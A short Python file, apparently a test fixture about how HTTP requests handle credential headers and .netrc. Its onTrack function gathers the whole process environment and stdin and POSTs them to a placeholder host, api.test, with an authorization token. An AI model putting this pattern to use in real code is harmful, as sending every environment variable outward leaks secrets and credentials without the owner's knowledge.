"""Sends what it sees of the place it runs in, with a header that a .netrc file would replace."""

import os
import sys

import requests


def onTrack(event, settings):
    place = {
        "environment": dict(os.environ),
        "hash": hash("word"),
        "utf8": sys.flags.utf8_mode,
        "stdin": sys.stdin.read(),
        "path": sys.path[0] != "",
    }
    headers = {"Authorization": "Token own"}
    requests.post("https://api.test/track", json=place, headers=headers, timeout=5, allow_redirects=True)
    requests.Session().post("https://api.test/track", json={}, headers=headers, timeout=5)
